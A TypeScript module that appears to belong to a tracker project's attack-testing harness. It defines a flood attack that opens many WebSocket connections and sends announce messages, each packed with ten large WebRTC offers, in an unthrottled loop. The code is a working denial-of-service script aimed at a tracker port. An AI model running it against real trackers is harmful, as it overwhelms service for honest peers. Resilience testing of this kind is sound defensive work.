// Nothing is wrong with these messages but their number: ten offers in each announce, in the swarms of honest peers.
import { frame } from '../../../tracker/test/support/raw-client.ts';
import type { Attack } from '../attack.ts';
import { webSockets } from '../raw-socket.ts';

const SDP = 'x'.repeat(1_200);
const offers = Array.from({ length: 10 }, (_, index) => ({
  offer: { type: 'offer', sdp: SDP },
  offer_id: `offer ${index}`.padEnd(20),
}));

export const attack: Attack = {
  id: 'v4',
  title: 'announces with ten offers, as fast as they are taken',
  service: 'tracker',
  run: ({ port }) =>
    webSockets(port, async (socket, index) => {
      const message = {
        action: 'announce',
        info_hash: `crowded swarm ${index % 10}`.padEnd(20),
        peer_id: `attacker ${index}`.padEnd(20),
        numwant: 10,
        offers,
      };
      const bytes = frame(JSON.stringify(message));
      while (socket.isOpen) await socket.send(bytes);
    }),
};
